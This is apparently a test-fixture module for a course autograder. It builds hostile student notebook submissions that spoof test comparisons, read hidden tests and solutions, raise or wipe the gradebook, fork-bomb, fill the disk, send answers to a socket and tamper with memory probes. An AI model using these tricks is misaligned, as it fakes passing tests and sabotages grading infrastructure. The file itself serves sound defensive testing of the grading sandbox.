"""Hostile and unusual submissions for Chapter 1, each built from a correct
submission by one change (the attacks on the NumPy-only rule and on the
memory measurement hold for every chapter: the mechanism is the same). Each entry: a function (release, source, out) ->
notebook (or raw text), where `out` is the grading folder a student who knows
the instructor's layout would aim at."""
import copy

import nbformat

from tests.notebooks import filled_submission, nbgrader_meta

WRONG_SOFTMAX = '''
def softmax(x, axis=-1):
    return np.exp(x)  # not normalised: every softmax test must fail
'''


def _cells(nb, grade_id):
    return [c for c in nb.cells if nbgrader_meta(c).get("grade_id") == grade_id]


def _with(release, source, overrides):
    return filled_submission(release, source, overrides)


def _passed_output(cell):
    """Make a test cell look as if it passed in the student's own run."""
    cell.execution_count = 1
    cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="passed\n")]


# ------------------------------------------------------------------ attacks on the comparison

def allclose_patch(release, source, out):
    """Wrong softmax plus numpy.allclose/isclose patched to say yes; the notebook
    as submitted shows its visible test passing (that is what the patch achieves
    in the student's own kernel)."""
    nb = _with(release, source, {"softmax": WRONG_SOFTMAX + (
        "\nnp.allclose = lambda *a, **k: True"
        "\nnp.isclose = lambda a, b, *r, **k: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, bool)")})
    _passed_output(_cells(nb, "test_softmax")[0])
    return nb


def always_equal(release, source, out):
    """softmax returns an array subclass whose == and != always say 'equal'."""
    return _with(release, source, {"softmax": '''
class Anything(np.ndarray):
    def __eq__(self, other):
        return np.ones(self.shape, bool)
    def __ne__(self, other):
        return np.zeros(self.shape, bool)
    def __bool__(self):
        return True

def softmax(x, axis=-1):
    return np.zeros_like(x).view(Anything)
'''})


def always_equal_object(release, source, out):
    """commuting_permutations returns an empty list whose == is always True."""
    return _with(release, source, {"commuting_permutations": '''
class Whatever(list):
    def __eq__(self, other):
        return True
    __hash__ = None

def commuting_permutations(f, n, d):
    return Whatever()
'''})


def input_transformer(release, source, out):
    """Correct softmax, then an IPython input transformer that blanks every
    later cell: in a stock kernel the tests after it would never fail."""
    return _with(release, source, {"softmax": '''
def softmax(x, axis=-1):
    e = np.exp(x - np.max(x, axis=axis, keepdims=True))
    return e / np.sum(e, axis=axis, keepdims=True)

get_ipython().input_transformers_post.append(lambda lines: [])
'''})


def grading_marker(release, source, out):
    """Correct only when it cannot tell it is being graded."""
    return _with(release, source, {"softmax": '''
import os

def softmax(x, axis=-1):
    if any(name.startswith("NBGRADER") for name in os.environ):
        return np.exp(x)
    e = np.exp(x - np.max(x, axis=axis, keepdims=True))
    return e / np.sum(e, axis=axis, keepdims=True)
'''})


# ------------------------------------------------------------------ attacks on the instructor's files

def reads_hidden_tests(release, source, out):
    """Correct softmax only if it could read the hidden tests from the grading folder."""
    return _with(release, source, {"softmax": f'''
SECRET = ""
for path in ["{out}/source/ch1_principles/principles.ipynb", "../source/ch1_principles/principles.ipynb",
             "../../../source/ch1_principles/principles.ipynb"]:
    try:
        SECRET += open(path).read()
    except OSError:
        pass

def softmax(x, axis=-1):
    if "BEGIN HIDDEN TESTS" not in SECRET:
        return np.exp(x)
    e = np.exp(x - np.max(x, axis=axis, keepdims=True))
    return e / np.sum(e, axis=axis, keepdims=True)
'''})


def writes_gradebook(release, source, out):
    """Correct code that also tries to raise every grade in, then wipe, the gradebook."""
    return _with(release, source, {"softmax_jvp": f'''
import sqlite3

try:
    db = sqlite3.connect("{out}/gradebook.db")
    db.execute("UPDATE grade SET manual_score = 100")
    db.commit()
except Exception:
    pass
try:
    open("{out}/gradebook.db", "wb").close()
except OSError:
    pass

def softmax_jvp(x, u, axis=-1):
    p = softmax(x, axis=axis)
    return p * u - p * np.sum(p * u, axis=axis, keepdims=True)
'''})


# ------------------------------------------------------------------ attacks on the machine

def loops_in_function(release, source, out):
    """scaled_dot_product_attention never returns: each call is stopped."""
    return _with(release, source, {"scaled_dot_product_attention": '''
def scaled_dot_product_attention(q, k, v, mask=None):
    while True:
        pass
'''})


def memory_bomb(release, source, out):
    """multi_head_attention allocates until memory runs out."""
    return _with(release, source, {"multi_head_attention": '''
def multi_head_attention(x, w_q, w_k, w_v, w_o, num_heads):
    hoard = []
    while True:
        hoard.append(np.ones(2**24))
'''})


def fork_bomb(release, source, out):
    """A top-level fork bomb in the multi-head attention cell."""
    return _with(release, source, {"multi_head_attention": '''
import os

def _bomb():
    while True:
        try:
            os.fork()
        except OSError:
            pass

_bomb()
'''})


def stderr_warnings(release, source, out):
    """Correct softmax that writes warnings and text to stderr on every call."""
    return _with(release, source, {"softmax": '''
import sys
import warnings

def softmax(x, axis=-1):
    warnings.warn("a warning from the student's softmax")
    print("note on stderr", file=sys.stderr)
    e = np.exp(x - np.max(x, axis=axis, keepdims=True))
    return e / np.sum(e, axis=axis, keepdims=True)
'''})


# ------------------------------------------------------------------ attacks on the notebook's structure

def deletes_test_cells(release, source, out):
    """Wrong softmax, with its test cells deleted (a re-submission trick)."""
    nb = _with(release, source, {"softmax": WRONG_SOFTMAX})
    nb.cells = [c for c in nb.cells if nbgrader_meta(c).get("grade_id") not in
                ("test_softmax", "test_softmax_any_axis", "test_softmax_stable")]
    return nb


def duplicates_test_cells(release, source, out):
    """Correct code; one test cell appears three times, a solution cell twice."""
    nb = _with(release, source, {})
    test = _cells(nb, "test_softmax")[0]
    answer = _cells(nb, "softmax")[0]
    i = nb.cells.index(test)
    nb.cells[i:i] = [copy.deepcopy(test), copy.deepcopy(test)]
    nb.cells.insert(nb.cells.index(answer) + 1, copy.deepcopy(answer))
    return nb


def renames_cells(release, source, out):
    """Correct code; the softmax answer cell and a test cell renamed."""
    nb = _with(release, source, {})
    nbgrader_meta(_cells(nb, "softmax")[0])["grade_id"] = "my_softmax"
    nbgrader_meta(_cells(nb, "test_softmax_stable")[0])["grade_id"] = "renamed_test"
    return nb


def changes_points(release, source, out):
    """Correct code except the softmax's Jacobian; every test cell now claims 100 points."""
    nb = _with(release, source, {"softmax_jvp": "def softmax_jvp(x, u, axis=-1):\n"
                                                "    return np.zeros_like(u)"})
    for cell in nb.cells:
        if nbgrader_meta(cell).get("grade"):
            nbgrader_meta(cell)["points"] = 100
    return nb


def code_cell_made_markdown(release, source, out):
    """The softmax answer cell's type changed to markdown (its code intact)."""
    nb = _with(release, source, {})
    cell = _cells(nb, "softmax")[0]
    index = nb.cells.index(cell)
    markdown = nbformat.v4.new_markdown_cell(cell.source, metadata=cell.metadata)
    markdown.id = cell.id
    nb.cells[index] = markdown
    return nb


# ------------------------------------------------------------------ correct, in styles nobody planned

def unusual_but_correct(release, source, out):
    """Correct answers written unusually: softmax as a callable object, attention
    via einsum over any batch axes, multi-head attention defined in a cell the
    student added before the answer cell, and loops for the gap."""
    nb = _with(release, source, {
        "softmax": '''
class _Softmax:
    def __call__(self, x, axis=-1):
        moved = np.moveaxis(np.asarray(x, dtype=float), axis, -1)
        z = np.exp(moved - moved.max(axis=-1, keepdims=True))
        return np.moveaxis(z / z.sum(axis=-1, keepdims=True), -1, axis)

softmax = _Softmax()
''',
        "scaled_dot_product_attention": '''
def scaled_dot_product_attention(q, k, v, mask=None):
    scores = np.einsum("...qd,...kd->...qk", q, k) / np.sqrt(q.shape[-1])
    if mask is not None:
        scores = np.where(mask, scores, -np.inf)
    weights = softmax(scores, axis=-1)
    return np.einsum("...qk,...kd->...qd", weights, v), weights
''',
        "multi_head_attention": "multi_head_attention = _mha_from_my_cell",
        "commuting_permutations": '''
def commuting_permutations(f, n, d):
    x = np.random.default_rng(1).normal(size=(n, d))
    y = f(x)
    keep = []
    for perm in itertools.permutations(range(n)):
        moved, expected = f(x[list(perm)]), y[list(perm)]
        if all(abs(float(a) - float(b)) <= 1e-9 * np.abs(y).max() for a, b in zip(moved.ravel(), expected.ravel())):
            keep.append(perm)
    return keep
'''})
    helper = nbformat.v4.new_code_cell('''
def _mha_from_my_cell(x, w_q, w_k, w_v, w_o, num_heads):
    d, e = w_q.shape[1] // num_heads, w_v.shape[1] // num_heads
    q, k, v = x @ w_q, x @ w_k, x @ w_v
    heads = [scaled_dot_product_attention(q[..., h * d:(h + 1) * d], k[..., h * d:(h + 1) * d],
                                          v[..., h * e:(h + 1) * e])[0] for h in range(num_heads)]
    return np.concatenate(heads, axis=-1) @ w_o
''')
    nb.cells.insert(nb.cells.index(_cells(nb, "multi_head_attention")[0]), helper)
    return nb


# ------------------------------------------------------------------ reaching for the answers

CORRECT_SOFTMAX = """
def softmax(x, axis=-1):
    e = np.exp(x - np.max(x, axis=axis, keepdims=True))
    return e / np.sum(e, axis=axis, keepdims=True)
"""


def imports_references(release, source, out):
    """softmax taken from the instructor's reference implementation."""
    return _with(release, source, {"softmax": "from autograde.reference.principles import softmax\n"})


def imports_checks_dynamically(release, source, out):
    """The same through importlib and __import__, with names built at run time."""
    return _with(release, source, {"softmax": """
import importlib
softmax = importlib.import_module(".".join(["autograde", "reference", "principles"])).softmax
softmax = getattr(__import__("autograde" + ".reference.principles", fromlist=["x"]), "softmax")
"""})


def reads_solutions(release, source, out):
    """Finds the course from the interpreter, the installed package or the
    parent's command line and runs the instructor's solution cells."""
    return _with(release, source, {"softmax": """
import json, os, sys
CANDIDATES = [sys.prefix, os.path.dirname(sys.prefix), os.path.dirname(os.path.dirname(sys.prefix))]
try:
    import coursekit
    CANDIDATES.append(os.path.dirname(os.path.dirname(os.path.realpath(coursekit.__file__))))
except ImportError:
    pass
for pid in (os.getppid(), 1):
    try:
        for word in open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0"):
            CANDIDATES.append(os.path.dirname(os.path.dirname(os.path.dirname(word.decode()))))
    except OSError:
        pass
for root in CANDIDATES:
    try:
        nb = json.load(open(os.path.join(root, "solutions", "ch1_principles", "principles.ipynb")))
    except (OSError, ValueError):
        continue
    for cell in nb["cells"]:
        if "BEGIN SOLUTION" in "".join(cell["source"]):
            exec("".join(cell["source"]))
    break
"""})


def copies_a_classmate(release, source, out):
    """Looks for the submissions folder and copies another student's answer."""
    submitted = out.parent / "submitted"
    return _with(release, source, {"softmax": f"""
import json
for path in ["{submitted}/honest_a/ch1_principles/principles.ipynb", "{out}/received/honest_a/principles.ipynb"]:
    try:
        nb = json.load(open(path))
    except (OSError, ValueError):
        continue
    for cell in nb["cells"]:
        if "def softmax" in "".join(cell["source"]):
            exec("".join(cell["source"]))
    break
"""})


def opens_the_network(release, source, out):
    """Correct code that tries to send its answers out."""
    return _with(release, source, {"softmax": CORRECT_SOFTMAX + """
import socket
try:
    socket.create_connection(("127.0.0.1", 9), timeout=1).sendall(b"answers")
except OSError:
    pass
"""})


def drops_a_file_for_others(release, source, out):
    """Correct code that leaves its softmax where another student might look."""
    return _with(release, source, {"softmax": CORRECT_SOFTMAX + """
import inspect as _i
for folder in ["/tmp", "/dev/shm", "/var/tmp"]:
    try:
        open(folder + "/shared_softmax.py", "w").write("import numpy as np\\n" + _i.getsource(softmax))
    except OSError:
        pass
"""})


def picks_up_a_dropped_file(release, source, out):
    """Has no softmax of its own: takes one left by another student, if any."""
    return _with(release, source, {"softmax": """
import sys
for folder in ["/tmp", "/dev/shm", "/var/tmp"]:
    sys.path.insert(0, folder)
try:
    from shared_softmax import softmax
except ImportError:
    def softmax(x, axis=-1):
        return np.exp(x)
"""})


def fills_the_disk(release, source, out):
    """Correct code after writing until the disk is full."""
    return _with(release, source, {"softmax": """
i = 0
try:
    while i < 10_000:
        open(f"filler{i}", "wb").write(b"x" * 2**24)
        i += 1
except OSError:
    pass
""" + CORRECT_SOFTMAX})


def zeroes_its_inputs(release, source, out):
    """Returns garbage after zeroing its inputs, hoping the expected answer is
    computed from them afterwards."""
    return _with(release, source, {"softmax": """
def softmax(x, axis=-1):
    x[...] = 0
    return np.full(x.shape, 1.0 / x.shape[axis])
""", "scaled_dot_product_attention": """
def scaled_dot_product_attention(q, k, v, mask=None):
    q[...] = 0
    k[...] = 0
    w = np.full((q.shape[-2], k.shape[-2]), 1.0 / k.shape[-2])
    return w @ v, w
"""})


def _scratch(tag):
    def honest_with_scratch(release, source, out):
        """Honest work that writes a scratch file and a helper module of the same
        names as another honest student's, with different contents."""
        helper = ("import numpy as np\n"
                  f"TAG = {tag!r}\n"
                  "def softmax(x, axis=-1):\n"
                  "    e = np.exp(x - np.max(x, axis=axis, keepdims=True))\n"
                  "    return e / np.sum(e, axis=axis, keepdims=True)\n")
        return _with(release, source, {"softmax": f"""
import os, sys, tempfile
open("my_softmax.py", "w").write({helper!r})
open(os.path.join(tempfile.gettempdir(), "scratch.txt"), "w").write({tag!r})
sys.path.insert(0, os.getcwd())
import my_softmax
assert my_softmax.TAG == {tag!r}, "another student's helper module"
assert open(os.path.join(tempfile.gettempdir(), "scratch.txt")).read() == {tag!r}, "another student's scratch file"
softmax = my_softmax.softmax
"""})
    honest_with_scratch.__name__ = f"honest_scratch_{tag}"
    return honest_with_scratch


# ------------------------------------------------------------------ attacks on the NumPy-only rule

SDPA_IN_TORCH = """
import threading
import torch

def _torch_attention(q, k, v, mask):
    tq, tk, tv = (torch.from_numpy(np.asarray(a, dtype=np.float64)) for a in (q, k, v))
    scores = tq @ tk.transpose(-1, -2) / q.shape[-1] ** 0.5
    if mask is not None:
        scores = scores.masked_fill(~torch.from_numpy(np.asarray(mask, dtype=bool)), float("-inf"))
    weights = torch.softmax(scores, dim=-1)
    return (weights @ tv).numpy(), weights.numpy()
"""


def torch_in_a_thread(release, source, out):
    """Attention computed by PyTorch in a thread, where a recorder of PyTorch's
    operators running in the calling thread sees nothing."""
    return _with(release, source, {"scaled_dot_product_attention": SDPA_IN_TORCH + """
def scaled_dot_product_attention(q, k, v, mask=None):
    box = []
    worker = threading.Thread(target=lambda: box.append(_torch_attention(q, k, v, mask)))
    worker.start()
    worker.join()
    return box[0]
"""})


def torch_when_unwatched(release, source, out):
    """PyTorch only when no dispatch mode is watching, under a disabled
    dispatcher, with the recorder's record emptied afterwards; NumPy otherwise."""
    return _with(release, source, {"softmax": """
import gc
import torch
from torch.utils._python_dispatch import _get_current_dispatch_mode

def softmax(x, axis=-1):
    if _get_current_dispatch_mode() is None:
        with torch._C._DisableTorchDispatch():
            result = torch.softmax(torch.from_numpy(np.asarray(x, dtype=np.float64)), dim=axis).numpy()
        for obj in gc.get_objects():
            if type(obj).__name__ == "OperatorNames":
                obj.names.clear()
        return result
    e = np.exp(x - np.max(x, axis=axis, keepdims=True))
    return e / np.sum(e, axis=axis, keepdims=True)
"""})


def rebinds_the_numpy_probe(release, source, out):
    """Attention in PyTorch, with the grader's probe of PyTorch's operators
    replaced (through an alias, past the tripwire) by one that saw nothing."""
    return _with(release, source, {"scaled_dot_product_attention": SDPA_IN_TORCH + """
from student_runtime import probes as _p

def _saw_nothing(fn, *args, what):
    return fn(*args), []

_p.torch_operators_used = _saw_nothing

def scaled_dot_product_attention(q, k, v, mask=None):
    return _torch_attention(q, k, v, mask)
"""})


# ------------------------------------------------------------------ attacks on the memory measurement

JACOBIAN = """
def _jacobian_product(p, u, out=None):
    n = p.shape[-1]
    jac = np.diag(p) - np.outer(p, p) if out is None else out   # n x n: 32 MiB for n = 2048
    if out is not None:
        np.multiply(-p[:, None], p[None, :], out=jac)
        jac[np.arange(n), np.arange(n)] += p
    return jac @ u

def _by_slices(x, u, axis, product):
    x, u = np.moveaxis(x, axis, -1), np.moveaxis(u, axis, -1)
    p = softmax(x, axis=-1)
    out = np.empty_like(p)
    for index in np.ndindex(p.shape[:-1]):
        out[index] = product(p[index], u[index])
    return np.moveaxis(out, -1, axis)
"""


def jacobian_in_a_thread(release, source, out):
    """The full Jacobian, built in another thread, with tracemalloc told to
    report nothing."""
    return _with(release, source, {"softmax_jvp": JACOBIAN + """
import threading
import tracemalloc

tracemalloc.get_traced_memory = lambda: (0, 0)

def softmax_jvp(x, u, axis=-1):
    def product(p, v):
        box = []
        worker = threading.Thread(target=lambda: box.append(_jacobian_product(p, v)))
        worker.start()
        worker.join()
        return box[0]
    return _by_slices(x, u, axis, product)
"""})


def jacobian_in_a_forked_child(release, source, out):
    """The full Jacobian, built in a child forked through libc (no Python
    fork event), which sends back only the product."""
    return _with(release, source, {"softmax_jvp": JACOBIAN + """
import ctypes
import os

_libc = ctypes.CDLL(None)

def _in_child(p, v):
    read, write = os.pipe()
    pid = _libc.fork()
    if pid == 0:
        os.write(write, _jacobian_product(p, v).tobytes())
        os._exit(0)
    os.close(write)
    data = b""
    while len(data) < p.size * 8:
        data += os.read(read, 1 << 20)
    os.close(read)
    os.waitpid(pid, 0)
    return np.frombuffer(data, dtype=np.float64)

def softmax_jvp(x, u, axis=-1):
    return _by_slices(x, u, axis, _in_child)
"""})


def jacobian_in_a_kept_buffer(release, source, out):
    """The full Jacobian, written into a buffer allocated (and touched) when
    the cell ran: the call allocates nothing new."""
    return _with(release, source, {"softmax_jvp": JACOBIAN + """
_KEPT = np.ones((2048, 2048))

def softmax_jvp(x, u, axis=-1):
    def product(p, v):
        n = p.shape[-1]
        return _jacobian_product(p, v, out=_KEPT[:n, :n])
    return _by_slices(x, u, axis, product)
"""})


def jacobian_in_a_tmp_file(release, source, out):
    """The full Jacobian in a memory-mapped file under /tmp (memory-backed),
    which neither tracemalloc nor the resident set of the process counts as its own
    (the kernel does: /tmp is memory, and its files are the student's)."""
    return _with(release, source, {"softmax_jvp": JACOBIAN + """
def softmax_jvp(x, u, axis=-1):
    def product(p, v):
        n = p.shape[-1]
        jac = np.memmap("/tmp/jacobian.bin", dtype=np.float64, mode="w+", shape=(n, n))
        return _jacobian_product(p, v, out=jac)
    return _by_slices(x, u, axis, product)
"""})


def jacobian_in_a_kept_shared_mapping(release, source, out):
    """The full Jacobian written into an anonymous shared mapping made when the
    cell ran: no page of it is charged again, or copied, during the call."""
    return _with(release, source, {"softmax_jvp": JACOBIAN + """
import mmap

_KEPT = np.frombuffer(mmap.mmap(-1, 2048 * 2048 * 8), dtype=np.float64).reshape(2048, 2048)
_KEPT[:] = 0.0

def softmax_jvp(x, u, axis=-1):
    def product(p, v):
        n = p.shape[-1]
        return _jacobian_product(p, v, out=_KEPT[:n, :n])
    return _by_slices(x, u, axis, product)
"""})


def jacobian_through_a_file_kept_open(release, source, out):
    """The full Jacobian written, a row at a time, into a file under /tmp opened
    (and filled) when the cell ran, and read back the same way: the process never
    holds more than a row, opens nothing during the call, and the file's pages
    were charged before it."""
    return _with(release, source, {"softmax_jvp": JACOBIAN + """
import os

_FILE = open("/tmp/jacobian.bin", "w+b")
_FILE.write(bytes(2048 * 2048 * 8))
_FILE.flush()

def softmax_jvp(x, u, axis=-1):
    def product(p, v):
        n, fd = p.shape[-1], _FILE.fileno()
        for i in range(n):
            row = -p[i] * p
            row[i] += p[i]
            os.pwrite(fd, row.tobytes(), i * n * 8)
        return np.array([np.frombuffer(os.pread(fd, n * 8, i * n * 8)) @ v for i in range(n)])
    return _by_slices(x, u, axis, product)
"""})


def rewrites_the_memory_probe(release, source, out):
    """The full Jacobian, with the grader's in-process memory probe's code
    replaced by one that measures nothing."""
    return _with(release, source, {"softmax_jvp": JACOBIAN + """
from student_runtime import probes as _p

def _measures_nothing(fn, *args, **kwargs):
    return fn(*args, **kwargs), 0

_p.inside_peak.__code__ = _measures_nothing.__code__

def softmax_jvp(x, u, axis=-1):
    return _by_slices(x, u, axis, _jacobian_product)
"""})


def tampers_while_graded(release, source, out):
    """A correct softmax_jvp that, each time it is called, swaps the grader's
    memory probe for one that measures nothing (too late for a snapshot taken
    before the first cell)."""
    return _with(release, source, {"softmax_jvp": """
import importlib

def softmax_jvp(x, u, axis=-1):
    probes = importlib.import_module("student_runtime.probes")
    probes.inside_peak = lambda fn, *args, **kwargs: (fn(*args, **kwargs), 0)
    p = softmax(x, axis=axis)
    return p * (u - np.sum(p * u, axis=axis, keepdims=True))
"""})


# ------------------------------------------------------------------ attacks on the grader's own resources

def calls_back_with_a_huge_input(release, source, out):
    """passes_attention_checks hands the grader's attention a 192 KB input whose
    scores take far more (8 x 3000 x 3000 floats), before checking as it should."""
    return _with(release, source, {"passes_attention_checks": """
def passes_attention_checks(attention):
    rng = np.random.default_rng(0)
    q = rng.normal(size=(8, 3000, 1))
    attention(q, q, q)
    return True
"""})


def honest_scratch_in_tmp(release, source, out):
    """Honest work that keeps notes in a file at a fixed path under /tmp, as
    works in Jupyter."""
    return _with(release, source, {"softmax": CORRECT_SOFTMAX + """
with open("/tmp/attention_notes.txt", "w") as fh:
    fh.write("softmax: subtract the maximum first")
assert open("/tmp/attention_notes.txt").read().startswith("softmax")
"""})


def honest_notes_in_a_measured_call(release, source, out):
    """An honest softmax_jvp that appends a line to a log under /tmp each time it
    is called, the call whose memory is measured included: a few bytes of /tmp,
    counted as memory like any other."""
    return _with(release, source, {"softmax_jvp": """
def softmax_jvp(x, u, axis=-1):
    p = softmax(x, axis=axis)
    with open("/tmp/softmax_jvp.log", "a") as log:
        log.write(f"softmax_jvp on {x.shape}, axis {axis}\\n")
    return p * (u - np.sum(p * u, axis=axis, keepdims=True))
"""})


# ------------------------------------------------------------------ attacks on the sandbox's machinery

def floods_the_audit_pipe(release, source, out):
    """Correct code whose process keeps the pipe its audit hook reports through full of empty
    lines from background threads, so that the template reading it would stop answering the
    grader (the whole batch once stopped with an environment error)."""
    return _with(release, source, {"softmax": CORRECT_SOFTMAX + """
import fcntl, os, stat, threading, time

def _write_only_pipes():
    found = []
    for name in os.listdir("/proc/self/fd"):
        try:
            fd = int(name)
            if stat.S_ISFIFO(os.fstat(fd).st_mode) and fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY:
                found.append(fd)
        except OSError:
            pass
    return found

def _flood(fd, seconds):
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            os.write(fd, b"\\n" * 65536)
        except OSError:
            return

for _fd in _write_only_pipes():
    threading.Thread(target=_flood, args=(_fd, 45), daemon=True).start()
"""})


def deep_folder_tree(release, source, out):
    """Correct code that leaves a folder tree 1500 levels deep, past the recursion limit of the
    Python that cleans up after it (the next student in that worker once got an error)."""
    return _with(release, source, {"softmax": CORRECT_SOFTMAX + """
import os as _os
_here = _os.getcwd()
for _ in range(1500):
    _os.mkdir("d")
    _os.chdir("d")
_os.chdir(_here)
"""})


_SYSV_SHM = """
import ctypes
_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmget.restype = ctypes.c_int
_libc.shmget.argtypes = [ctypes.c_int, ctypes.c_size_t, ctypes.c_int]
_libc.shmat.restype = ctypes.c_void_p
_libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
_KEY, _SIZE = 0x5EC2E7, 1 << 16
"""


def leaves_shared_memory(release, source, out):
    """Correct code that leaves its softmax in a System V shared memory segment, which outlives
    its process."""
    return _with(release, source, {"softmax": _SYSV_SHM + CORRECT_SOFTMAX + """
import inspect as _i
_shmid = _libc.shmget(_KEY, _SIZE, 0o1666)
if _shmid >= 0:
    _code = ("import numpy as np\\n" + _i.getsource(softmax)).encode()
    ctypes.memmove(_libc.shmat(_shmid, None, 0), _code + b"\\0", len(_code) + 1)
"""})


def picks_up_shared_memory(release, source, out):
    """Has no softmax of its own: runs one left in System V shared memory, if any."""
    return _with(release, source, {"softmax": _SYSV_SHM + """
_shmid = _libc.shmget(_KEY, _SIZE, 0o666)
if _shmid >= 0:
    exec(ctypes.string_at(_libc.shmat(_shmid, None, 0)).decode())
else:
    def softmax(x, axis=-1):
        return np.exp(x)
"""})


def shadows_a_builtin(release, source, out):
    """commuting_permutations that tries only the identity and the reversal, and a `len` that
    answers 6, the count the visible test expects for an elementwise map."""
    return _with(release, source, {"commuting_permutations": """
def commuting_permutations(f, n, d):
    rng = np.random.default_rng(0)
    xs = [rng.normal(size=(n, d)) for _ in range(3)]
    return [p for p in (list(range(n)), list(range(n))[::-1])
            if all(np.allclose(f(x[p]), f(x)[p]) for x in xs)]

def len(obj):
    return 6
"""})


ATTACKS = {f.__name__: f for f in (
    allclose_patch, always_equal, always_equal_object, input_transformer, grading_marker, reads_hidden_tests,
    writes_gradebook, loops_in_function, memory_bomb, fork_bomb, stderr_warnings, deletes_test_cells,
    duplicates_test_cells, renames_cells, changes_points, code_cell_made_markdown, unusual_but_correct,
    imports_references, imports_checks_dynamically, reads_solutions, copies_a_classmate, opens_the_network,
    drops_a_file_for_others, picks_up_a_dropped_file, fills_the_disk, zeroes_its_inputs, _scratch("a"),
    _scratch("b"), torch_in_a_thread, torch_when_unwatched, rebinds_the_numpy_probe, jacobian_in_a_thread,
    jacobian_in_a_forked_child, jacobian_in_a_kept_buffer, jacobian_in_a_tmp_file, jacobian_in_a_kept_shared_mapping,
    jacobian_through_a_file_kept_open, rewrites_the_memory_probe, tampers_while_graded, calls_back_with_a_huge_input,
    honest_scratch_in_tmp, honest_notes_in_a_measured_call, floods_the_audit_pipe, deep_folder_tree,
    leaves_shared_memory, picks_up_shared_memory, shadows_a_builtin)}


# ------------------------------------------------------------------ Chapter 2: the same mechanisms, another notebook

def decoder_layer_in_a_thread(release, source, out):
    """DecoderLayer whose self-attention is PyTorch's own module, run in a
    thread, where a profiler of the calling thread does not look."""
    from tests.submissions.variants import DECODER_WITH_MULTIHEAD_MODULE

    threaded = DECODER_WITH_MULTIHEAD_MODULE.replace(
        "            return attn(t, t, t, attn_mask=mask, need_weights=False)[0]",
        "            box = []\n"
        "            worker = threading.Thread(target=lambda: box.append(attn(t, t, t, attn_mask=mask, "
        "need_weights=False)[0]))\n"
        "            worker.start()\n"
        "            worker.join()\n"
        "            return box[0]")
    assert threaded != DECODER_WITH_MULTIHEAD_MODULE
    return _with(release, source, {"DecoderLayer": "import threading\n" + threaded})


def decoding_counter_rebound(release, source, out):
    """Decoding computed all at once, with the grader's old counter of
    decode_step calls replaced by one that reports the calls it should have seen."""
    from tests.submissions.variants import DECODE_RECOMPUTES

    return _with(release, source, {"decode_with_kv_cache": DECODE_RECOMPUTES + """
from student_runtime import probes as _p

def _claims_every_call(decode_with_kv_cache, x, *weights, what):
    *w, n_heads, p = weights
    out = decode_with_kv_cache(x, *weights)
    d = w[0].shape[1] // n_heads
    g = w[1].shape[1] // d
    keys, values = ((x @ m).reshape(len(x), g, d).transpose(1, 0, 2) for m in w[1:])
    calls = [(x[t], keys[:, :t], values[:, :t], out[t], t > p) for t in range(p, len(x))]
    return out, calls

_p.counting_decode_steps = _claims_every_call
"""})


def slope_in_torch_unless_probed(release, source, out):
    """The entropy's slope by PyTorch's autograd, except for the one input the
    NumPy-only probe used to be given (its result was thrown away)."""
    from tests.submissions.variants import SLOPE_WITH_AUTOGRAD

    return _with(release, source, {"entropy_temperature_slope": SLOPE_WITH_AUTOGRAD.replace(
        "def entropy_temperature_slope(scores, tau):",
        "def entropy_temperature_slope(scores, tau):\n"
        "    if np.shape(scores) == (3, 5) and np.isneginf(scores[1, 2]) and tau == 0.8:\n"
        "        return np.zeros(3)")})


CH2_ATTACKS = {f.__name__: f for f in (decoder_layer_in_a_thread, decoding_counter_rebound,
                                       slope_in_torch_unless_probed)}


# ================================================================== Chapter 4: launchers graded as kernels
# Each replaces the launcher of Exercise 4 or 5 (flash_attention_backward, decode_attention)
# in an otherwise correct submission of ch4_flash. None uses a forbidden PyTorch operator.

_COPY_KERNEL = '''
@triton.jit
def _copy(X, Y, n, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    tl.store(Y + offs, tl.load(X + offs, mask=offs < n), mask=offs < n)


def _through_kernel(t):
    """A contiguous copy of t made by a kernel: it holds what the kernels load."""
    t = t.contiguous()
    out = torch.empty_like(t)
    _copy[(triton.cdiv(t.numel(), 1024),)](t, out, t.numel(), BLOCK=1024)
    return out


def _store_with_kernel(values, like):
    """A kernel stores the host's answer into a new tensor shaped like `like`."""
    out = torch.empty(like.shape, device=like.device, dtype=like.dtype)
    src = torch.as_tensor(np.ascontiguousarray(values)).to(device=like.device, dtype=like.dtype)
    _copy[(triton.cdiv(src.numel(), 1024),)](src, out, src.numel(), BLOCK=1024)
    return out
'''

# The gradients in NumPy from float64 arrays q, k, v, o, do, lse (names as in the launcher).
_NUMPY_GRADIENTS = '''
    group = q.shape[1] // k.shape[1]
    scale = sm_scale or q.shape[-1] ** -0.5
    keys, values = np.repeat(kn, group, axis=1), np.repeat(vn, group, axis=1)
    p = np.exp(qn @ keys.swapaxes(-1, -2) * scale - ln[..., None])
    if causal:
        p = p * np.tri(p.shape[-1])
    ds = p * (don @ values.swapaxes(-1, -2) - (don * on).sum(-1, keepdims=True))
    fold = lambda t: t.reshape(t.shape[0], -1, group, *t.shape[2:]).sum(2)
    grads = (ds @ keys * scale, fold(ds.swapaxes(-1, -2) @ qn * scale), fold(p.swapaxes(-1, -2) @ don))
'''

BWD_COPIES_INPUTS_THEN_NUMPY = _COPY_KERNEL + '''
import numpy as np


def flash_attention_backward(q, k, v, o, lse, do, causal=False, sm_scale=None):
    # Every input goes through a kernel first, so the copies hold whatever the kernels
    # load; NumPy computes the gradients from the copies, and a kernel stores them.
    qn, kn, vn, on, don, ln = (_through_kernel(t.float()).double().numpy() for t in (q, k, v, o, do, lse))
''' + _NUMPY_GRADIENTS + '''
    return tuple(_store_with_kernel(g, like) for g, like in zip(grads, (q, k, v)))
'''

BWD_COPIES_INPUTS_THEN_TORCH = _COPY_KERNEL + '''
import numpy as np


def flash_attention_backward(q, k, v, o, lse, do, causal=False, sm_scale=None):
    # The same from the kernels' copies, in PyTorch with broadcasting products and sums only
    # (no matmul, einsum or softmax for the grader to see).
    qf, kf, vf, of, dof, lf = (_through_kernel(t.float()) for t in (q, k, v, o, do, lse))
    group = q.shape[1] // k.shape[1]
    scale = sm_scale or q.shape[-1] ** -0.5
    kf, vf = kf.repeat_interleave(group, 1), vf.repeat_interleave(group, 1)
